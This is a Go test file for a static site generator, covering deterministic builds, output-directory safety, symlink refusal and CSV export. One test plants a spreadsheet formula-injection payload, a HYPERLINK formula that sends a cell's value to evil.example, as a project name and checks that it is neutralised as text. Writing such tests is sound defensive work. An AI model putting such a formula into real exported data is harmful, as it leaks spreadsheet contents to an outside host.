package site

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// Two builds of the same input are byte-identical.
func TestDemoDeterministic(t *testing.T) {
	a := build(t, repoRoot, Options{})
	b := build(t, repoRoot, Options{})
	fa, fb := walk(t, a), walk(t, b)
	if strings.Join(fa, "\n") != strings.Join(fb, "\n") {
		t.Fatalf("the two builds have different files")
	}
	for _, f := range fa {
		if readFile(t, a, f) != readFile(t, b, f) {
			t.Errorf("%s differs between two builds of the same input", f)
		}
	}
	assertNoNoise(t, a)
}

// A failed build leaves the previous output byte for byte as it was.
func TestFailedBuildLeavesOutput(t *testing.T) {
	src := writeSite(t, with(baseFiles("2023-01-01", "2023-12-31"), map[string]string{
		"content/reports/2023-03-31.toml": stats("2023-03-31", map[string]string{"a": "1"}, nil),
	}))
	out := build(t, src, Options{})
	before := snapshot(t, out)
	if err := os.WriteFile(filepath.Join(src, "content/projects/p1.toml"), []byte("name = \"x\"\nplan = \"3\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Build(context.Background(), Options{Source: src, Out: out})
	if err == nil {
		t.Fatal("a broken project built")
	}
	if after := snapshot(t, out); after != before {
		t.Errorf("a failed build changed the output")
	}
	if leftovers(t, filepath.Dir(out)) != 0 {
		t.Errorf("a failed build left its build directory behind")
	}
}

func snapshot(t *testing.T, dir string) string {
	var b strings.Builder
	for _, f := range walk(t, dir) {
		b.WriteString(f + "\n" + readFile(t, dir, f) + "\n")
	}
	return b.String()
}

func leftovers(t *testing.T, parent string) int {
	es, err := os.ReadDir(parent)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, e := range es {
		if strings.Contains(e.Name(), ".build-") {
			n++
		}
	}
	return n
}

// --out must be absent, empty or a previous build: a directory that
// merely looks like one (data/metrics.json) keeps its files, and the
// error names them.
func TestOutputMustBeOurs(t *testing.T) {
	src := writeSite(t, with(baseFiles("2023-01-01", "2023-12-31"), map[string]string{
		"content/reports/2023-03-31.toml": stats("2023-03-31", map[string]string{"a": "1"}, nil),
	}))
	out := filepath.Join(t.TempDir(), "site")
	for _, f := range []string{"data/metrics.json", "important.txt", "CNAME", ".git/HEAD"} {
		p := filepath.Join(out, filepath.FromSlash(f))
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte("keep me"), 0o644)
	}
	_, err := Build(context.Background(), Options{Source: src, Out: out})
	if !errors.Is(err, ErrForeignOutput) {
		t.Fatalf("Build into a foreign directory = %v; want ErrForeignOutput", err)
	}
	for _, name := range []string{"important.txt", "CNAME", ".git"} {
		if !strings.Contains(err.Error(), name) {
			t.Errorf("the error does not name %s: %v", name, err)
		}
	}
	if readFile(t, out, "important.txt") != "keep me" || readFile(t, out, ".git/HEAD") != "keep me" {
		t.Errorf("files of a foreign directory were touched")
	}
	// A previous build is replaced, an empty directory filled.
	ours := build(t, src, Options{})
	build(t, src, Options{Out: ours})
	empty := t.TempDir()
	build(t, src, Options{Out: empty})
}

// A build killed mid-way leaves a build directory; the next build removes
// it (its process is gone), and leaves a running build's alone.
func TestLeftoverBuildDirectoriesRemoved(t *testing.T) {
	src := writeSite(t, with(baseFiles("2023-01-01", "2023-12-31"), map[string]string{
		"content/reports/2023-03-31.toml": stats("2023-03-31", map[string]string{"a": "1"}, nil),
	}))
	parent := t.TempDir()
	dead := exec.Command("sh", "-c", "exit 0")
	if err := dead.Run(); err != nil {
		t.Fatal(err)
	}
	for name, pid := range map[string]int{".public.build-111": dead.Process.Pid, ".public.build-222": os.Getpid()} {
		dir := filepath.Join(parent, name)
		os.MkdirAll(filepath.Join(dir, "projects"), 0o755)
		m, _ := json.Marshal(marker{Generator: "gongjian", PID: pid})
		os.WriteFile(filepath.Join(dir, MarkerName), m, 0o644)
	}
	build(t, src, Options{Out: filepath.Join(parent, "public")})
	if _, err := os.Stat(filepath.Join(parent, ".public.build-111")); err == nil {
		t.Errorf("the dead build's directory is still there")
	}
	if _, err := os.Stat(filepath.Join(parent, ".public.build-222")); err != nil {
		t.Errorf("a live build's directory was removed")
	}
}

// Symbolic links are never followed: a link in content/ (to the build
// machine's environment) or in layouts/ is an error naming it, and
// nothing of its target reaches the output.
func TestSymlinksRefused(t *testing.T) {
	files := with(baseFiles("2023-01-01", "2023-12-31"), map[string]string{
		"content/reports/2023-03-31.toml": stats("2023-03-31", map[string]string{"a": "1"}, nil),
	})
	secret := filepath.Join(t.TempDir(), "secret.txt")
	os.WriteFile(secret, []byte("TOKEN=s3cr3t"), 0o644)
	for _, tc := range []struct{ link, want string }{
		{"content/env.md", "content/env.md: is a symbolic link"},
		{"content/projects/p9.toml", "content/projects/p9.toml: is a symbolic link"},
		{"layouts/assets/extra.css", "layouts/assets/extra.css: is a symbolic link"},
		{"layouts/home.html", "layouts/home.html: is a symbolic link"},
	} {
		t.Run(tc.link, func(t *testing.T) {
			src := writeSite(t, files)
			p := filepath.Join(src, filepath.FromSlash(tc.link))
			os.MkdirAll(filepath.Dir(p), 0o755)
			if err := os.Symlink(secret, p); err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(t.TempDir(), "public")
			_, err := Build(context.Background(), Options{Source: src, Out: out})
			if err == nil || !strings.Contains(errText(err), tc.want) {
				t.Fatalf("Build = %v; want an error %q", err, tc.want)
			}
			if _, err := os.Stat(out); err == nil {
				t.Errorf("a refused build wrote output")
			}
		})
	}
}

// A project named like a spreadsheet formula lands in projects.csv as
// text, and metrics.json keeps the true value.
func TestCSVFormulaInjection(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?x="&B2,"详情")`
	files := with(baseFiles("2023-01-01", "2023-12-31"), map[string]string{
		"content/reports/2023-03-31.toml": stats("2023-03-31", map[string]string{"a": "1"}, nil),
		"content/projects/p1.toml":        "name = '" + evil + "'\nregion = \"a\"\nowner = \"x\"\ncategory = \"industry\"\nplan = 4\n",
		"content/regions/b.toml":          "name = \"+SUM(1,2)\"\nkind = \"street\"\n",
	})
	out := build(t, writeSite(t, files), Options{})
	for _, f := range []string{"data/projects.csv", "data/regions.csv"} {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(readFile(t, out, f), "\ufeff")))
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for i, row := range rows {
			for j, cell := range row {
				if cell == "" || i == 0 {
					continue
				}
				// Numbers the generator writes may be negative; user text may not start a formula.
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d column %d starts a formula: %q", f, i+1, j+1, cell)
				}
			}
		}
	}
	contains(t, "projects.csv", readFile(t, out, "data/projects.csv"), `'=HYPERLINK(`)
	lacks(t, "metrics.json", readFile(t, out, "data/metrics.json"), `'=HYPERLINK`)
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatalf("LibreOffice (soffice) is not installed; .ci/run installs libreoffice-calc to open the CSV as a spreadsheet would")
	}
	// Open it the way a spreadsheet does: LibreOffice imports the CSV
	// (UTF-8, comma) and saves it as flat ODS; the cell must be text, not
	// a formula.
	dir := t.TempDir()
	cmd := exec.Command(soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", dir, filepath.Join(out, "data/projects.csv"))
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	fods, err := os.ReadFile(filepath.Join(dir, "projects.fods"))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(fods, []byte("table:formula")) {
		t.Errorf("LibreOffice read a formula from projects.csv")
	}
	if !bytes.Contains(fods, []byte("HYPERLINK")) {
		t.Errorf("the project's name is missing from the spreadsheet")
	}
}

// Live renders every page as a build writes it.
func TestLiveMatchesBuild(t *testing.T) {
	out := build(t, repoRoot, Options{})
	l, err := Prepare(context.Background(), Options{Source: repoRoot})
	if err != nil {
		t.Fatal(errText(err))
	}
	defer l.Close()
	for _, f := range walk(t, out) {
		if f == MarkerName {
			continue
		}
		got, ok, err := l.File(f)
		if err != nil || !ok {
			t.Errorf("Live.File(%s) = ok %v, %v", f, ok, err)
			continue
		}
		if string(got) != readFile(t, out, f) {
			t.Errorf("Live.File(%s) differs from the built file", f)
		}
	}
}
